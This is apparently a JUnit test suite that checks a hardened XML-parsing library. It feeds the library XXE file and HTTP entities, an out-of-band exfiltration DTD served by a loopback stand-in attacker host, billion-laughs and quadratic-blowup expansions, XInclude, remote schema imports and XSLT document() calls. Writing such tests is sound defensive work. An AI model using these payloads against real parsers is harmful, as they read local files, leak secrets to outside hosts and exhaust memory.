package dev.okienko.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.sun.net.httpserver.HttpServer;
import dev.okienko.core.XmlSecurityException.Threat;
import jakarta.xml.bind.JAXBContext;
import jakarta.xml.bind.annotation.XmlAccessType;
import jakarta.xml.bind.annotation.XmlAccessorType;
import jakarta.xml.bind.annotation.XmlElement;
import jakarta.xml.bind.annotation.XmlRootElement;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Consumer;
import java.util.stream.Stream;
import javax.xml.stream.XMLStreamReader;
import javax.xml.transform.Transformer;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import javax.xml.validation.Schema;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Document;
import org.xml.sax.helpers.DefaultHandler;

/**
 * Feeds hostile XML to every parser SecureXml makes. A loopback HTTP server stands in for the attacker's
 * host and counts every request: after each test it must have seen none.
 */
class SecureXmlTest {
    private static final String SECRET = "TOP-SECRET-CONTENT-42";

    @TempDir
    static Path tmp;

    private HttpServer attacker;
    private final AtomicInteger hits = new AtomicInteger();
    private String base;
    private Path secretFile;

    @BeforeEach
    void start() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            hits.incrementAndGet();
            byte[] body = ("<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/?" + SECRET + "'>\">%all;")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        attacker.start();
        base = "http://127.0.0.1:" + attacker.getAddress().getPort();
        secretFile = Files.writeString(tmp.resolve("secret.txt"), SECRET);
    }

    @AfterEach
    void stop() {
        attacker.stop(0);
        assertThat(hits.get()).as("requests that reached the attacker's server").isZero();
    }

    // ------------------------------------------------------------------ payloads

    static Stream<Arguments> hostileDocuments() {
        return Stream.of(
                Arguments.of("XXE via file", (PayloadFactory) t -> "<!DOCTYPE r [<!ENTITY x SYSTEM \"" + t.secretFile.toUri()
                        + "\">]><r>&x;</r>"),
                Arguments.of("XXE via http", (PayloadFactory) t -> "<!DOCTYPE r [<!ENTITY x SYSTEM \"" + t.base
                        + "/x\">]><r>&x;</r>"),
                Arguments.of("parameter entity", (PayloadFactory) t -> "<!DOCTYPE r [<!ENTITY % p SYSTEM \"" + t.base
                        + "/evil.dtd\"> %p;]><r>&send;</r>"),
                Arguments.of("external DTD", (PayloadFactory) t -> "<!DOCTYPE r SYSTEM \"" + t.base + "/evil.dtd\"><r/>"),
                Arguments.of("public external DTD", (PayloadFactory) t -> "<!DOCTYPE r PUBLIC \"-//X//Y\" \"" + t.base
                        + "/evil.dtd\"><r/>"),
                Arguments.of("billion laughs", (PayloadFactory) t -> billionLaughs()),
                Arguments.of("quadratic blowup", (PayloadFactory) t -> "<!DOCTYPE r [<!ENTITY a \"" + "x".repeat(50_000)
                        + "\">]><r>" + "&a;".repeat(10_000) + "</r>"));
    }

    interface PayloadFactory {
        String make(SecureXmlTest test);
    }

    private static String billionLaughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        dtd.append("<!ENTITY lol1 \"").append("&lol;".repeat(10)).append("\">");
        for (int i = 2; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return dtd.append("]><lolz>&lol9;</lolz>").toString();
    }

    private static InputStream in(String xml) {
        return new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8));
    }

    private static Consumer<XmlSecurityException> doctypeRefused() {
        return e -> {
            assertThat(e.threat()).isEqualTo(Threat.DOCTYPE);
            assertThat(e.getMessage()).contains("DOCTYPE").doesNotContain(SECRET);
        };
    }

    // ------------------------------------------------------------------ every parser

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileDocuments")
    void parse_hostileDocument_refusedAsDoctype(String name, PayloadFactory payload) {
        assertThatThrownBy(() -> SecureXml.parse(in(payload.make(this))))
                .isInstanceOfSatisfying(XmlSecurityException.class, doctypeRefused());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileDocuments")
    void newXmlReader_hostileDocument_refusedAsDoctype(String name, PayloadFactory payload) {
        StringBuilder seen = new StringBuilder();
        assertThatThrownBy(() -> {
            try {
                var reader = SecureXml.newXmlReader();
                reader.setContentHandler(new DefaultHandler() {
                    @Override
                    public void characters(char[] ch, int start, int length) {
                        seen.append(ch, start, length);
                    }
                });
                reader.parse(new org.xml.sax.InputSource(in(payload.make(this))));
            } catch (org.xml.sax.SAXException e) {
                throw dev.okienko.core.internal.XmlErrors.translate(e);
            }
        }).isInstanceOfSatisfying(XmlSecurityException.class, doctypeRefused());
        assertThat(seen.toString()).doesNotContain(SECRET).doesNotContain("lollol");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileDocuments")
    void newXmlStreamReader_hostileDocument_refusedAtDtdEvent(String name, PayloadFactory payload) {
        StringBuilder seen = new StringBuilder();
        assertThatThrownBy(() -> {
            XMLStreamReader r = SecureXml.newXmlStreamReader(in(payload.make(this)));
            while (r.hasNext()) {
                if (r.next() == XMLStreamReader.CHARACTERS) {
                    seen.append(r.getText());
                }
            }
        }).isInstanceOfSatisfying(XmlSecurityException.class, e -> assertThat(e.threat()).isEqualTo(Threat.DOCTYPE));
        assertThat(seen.toString()).doesNotContain(SECRET).doesNotContain("lollol");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileDocuments")
    void unmarshal_hostileDocument_refusedAsDoctype(String name, PayloadFactory payload) throws Exception {
        var unmarshaller = JAXBContext.newInstance(Letter.class).createUnmarshaller();

        assertThatThrownBy(() -> SecureXml.unmarshal(unmarshaller, in(payload.make(this)), Letter.class))
                .isInstanceOfSatisfying(XmlSecurityException.class, doctypeRefused());
    }

    // ------------------------------------------------------------------ XInclude, schemas, stylesheets

    @Test
    void parse_xinclude_notProcessed() {
        String xml = "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + secretFile.toUri()
                + "\" parse=\"text\"/><xi:include href=\"" + base + "/x\" parse=\"text\"/></r>";

        Document doc = SecureXml.parse(in(xml));

        assertThat(doc.getDocumentElement().getTextContent()).doesNotContain(SECRET);
        assertThat(doc.getElementsByTagNameNS("http://www.w3.org/2001/XInclude", "include").getLength()).isEqualTo(2);
    }

    @Test
    void newSchema_importFromNetwork_refusedWithoutFetching() throws Exception {
        Path xsd = Files.writeString(tmp.resolve("net.xsd"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">"
                + "<xs:import namespace=\"urn:x\" schemaLocation=\"" + base + "/other.xsd\"/></xs:schema>");

        assertThatThrownBy(() -> SecureXml.newSchema(xsd))
                .isInstanceOfSatisfying(XmlSecurityException.class,
                        e -> assertThat(e.threat()).isEqualTo(Threat.EXTERNAL_RESOURCE));
    }

    @Test
    void newSchema_includeOutsideFolder_refused() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("schemas-outside"));
        Files.writeString(tmp.resolve("outside.xsd"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"/>");
        Path xsd = Files.writeString(dir.resolve("main.xsd"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">"
                + "<xs:include schemaLocation=\"../outside.xsd\"/></xs:schema>");

        assertThatThrownBy(() -> SecureXml.newSchema(xsd))
                .isInstanceOfSatisfying(XmlSecurityException.class,
                        e -> assertThat(e.threat()).isEqualTo(Threat.EXTERNAL_RESOURCE));
    }

    @Test
    void newSchema_localImport_compilesAndValidates() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("schemas-ok/sub"));
        Files.writeString(dir.resolve("types.xsd"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\""
                + " targetNamespace=\"urn:types\"><xs:simpleType name=\"Code\"><xs:restriction base=\"xs:string\">"
                + "<xs:pattern value=\"[A-Z]{3}\"/></xs:restriction></xs:simpleType></xs:schema>");
        Path main = Files.writeString(dir.getParent().resolve("main.xsd"),
                "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" xmlns:t=\"urn:types\" targetNamespace=\"urn:main\""
                        + " elementFormDefault=\"qualified\"><xs:import namespace=\"urn:types\" schemaLocation=\"sub/types.xsd\"/>"
                        + "<xs:element name=\"code\" type=\"t:Code\"/></xs:schema>");

        Schema schema = SecureXml.newSchema(main);

        SecureXml.validate(schema, SecureXml.parse(in("<code xmlns=\"urn:main\">ABC</code>")));
        assertThatThrownBy(() -> SecureXml.validate(schema, SecureXml.parse(in("<code xmlns=\"urn:main\">abcd</code>"))))
                .isInstanceOf(XmlException.class)
                .isNotInstanceOf(XmlSecurityException.class)
                .hasMessageContaining("abcd");
    }

    @Test
    void newTransformer_stylesheetWithDocumentCall_fetchesNothing() {
        String xslt = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                + "<xsl:template match=\"/\"><out><xsl:copy-of select=\"document('" + base + "/doc.xml')\"/>"
                + "<xsl:copy-of select=\"document('" + secretFile.toUri() + "')\"/></out></xsl:template></xsl:stylesheet>";
        StringWriter out = new StringWriter();

        try {
            Transformer t = SecureXml.newTransformer(in(xslt));
            t.transform(new DOMSource(SecureXml.parse(in("<r/>"))), new StreamResult(out));
        } catch (XmlException | javax.xml.transform.TransformerException refused) {
            // refusing the stylesheet outright is as good as running it without the documents
        }

        assertThat(out.toString()).doesNotContain(SECRET);
    }

    @Test
    void newTransformer_importFromNetwork_refused() {
        String xslt = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                + "<xsl:import href=\"" + base + "/evil.xsl\"/></xsl:stylesheet>";

        assertThatThrownBy(() -> SecureXml.newTransformer(in(xslt))).isInstanceOf(XmlException.class);
    }

    // ------------------------------------------------------------------ limits and plain errors

    @Test
    void parse_deepNesting_refusedAsLimit() {
        String xml = "<a>".repeat(SecureXml.MAX_ELEMENT_DEPTH + 10) + "</a>".repeat(SecureXml.MAX_ELEMENT_DEPTH + 10);

        assertThatThrownBy(() -> SecureXml.parse(in(xml)))
                .isInstanceOfSatisfying(XmlSecurityException.class,
                        e -> assertThat(e.threat()).isEqualTo(Threat.LIMIT_EXCEEDED));
    }

    @Test
    void parse_depthWithinLimit_accepted() {
        String xml = "<a>".repeat(100) + "</a>".repeat(100);

        assertThat(SecureXml.parse(in(xml)).getDocumentElement().getTagName()).isEqualTo("a");
    }

    @Test
    void parse_malformed_plainXmlExceptionWithLine() {
        assertThatThrownBy(() -> SecureXml.parse(in("<r>\n<a>\n</r>")))
                .isInstanceOfSatisfying(XmlException.class, e -> {
                    assertThat(e).isNotInstanceOf(XmlSecurityException.class);
                    assertThat(e.line()).isEqualTo(3);
                    assertThat(e.getMessage()).startsWith("malformed XML").contains("line 3");
                });
    }

    @Test
    void parse_truncated_plainXmlException() {
        assertThatThrownBy(() -> SecureXml.parse(in("<r><a>text")))
                .isInstanceOf(XmlException.class)
                .isNotInstanceOf(XmlSecurityException.class);
    }

    @Test
    void parse_wellFormedDocument_namespaceAware() {
        Document doc = SecureXml.parse(in("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                + "<p:Dokument xmlns:p=\"http://crd.gov.pl/wzor/2013/12/12/1410/\"><p:Tytul>Zażółć &amp; gęślą</p:Tytul></p:Dokument>"));

        assertThat(doc.getDocumentElement().getNamespaceURI()).isEqualTo("http://crd.gov.pl/wzor/2013/12/12/1410/");
        assertThat(doc.getDocumentElement().getLocalName()).isEqualTo("Dokument");
        assertThat(doc.getDocumentElement().getTextContent()).isEqualTo("Zażółć & gęślą");
    }

    @Test
    void newXmlStreamReader_wellFormedDocument_readsElements() throws Exception {
        XMLStreamReader r = SecureXml.newXmlStreamReader(in("<a xmlns=\"urn:x\"><b>text</b><!-- c --></a>"));

        assertThat(r.nextTag()).isEqualTo(XMLStreamReader.START_ELEMENT);
        assertThat(r.getNamespaceURI()).isEqualTo("urn:x");
        assertThat(r.nextTag()).isEqualTo(XMLStreamReader.START_ELEMENT);
        assertThat(r.getElementText()).isEqualTo("text");
        assertThat(r.nextTag()).isEqualTo(XMLStreamReader.END_ELEMENT);
    }

    @Test
    void unmarshal_wellFormedDocument_bindsValues() throws Exception {
        var unmarshaller = JAXBContext.newInstance(Letter.class).createUnmarshaller();

        Letter letter = SecureXml.unmarshal(unmarshaller, in("<letter><title>Wniosek</title></letter>"), Letter.class);

        assertThat(letter.title).isEqualTo("Wniosek");
    }

    @Test
    void newTransformer_identity_serialisesDom() throws Exception {
        StringWriter out = new StringWriter();

        SecureXml.newTransformer().transform(new DOMSource(SecureXml.parse(in("<a><b>1</b></a>"))), new StreamResult(out));

        assertThat(out.toString()).contains("<a><b>1</b></a>");
    }

    /** A tiny JAXB model for the unmarshalling tests. */
    @XmlRootElement(name = "letter")
    @XmlAccessorType(XmlAccessType.FIELD)
    static class Letter {
        @XmlElement
        String title;
    }
}
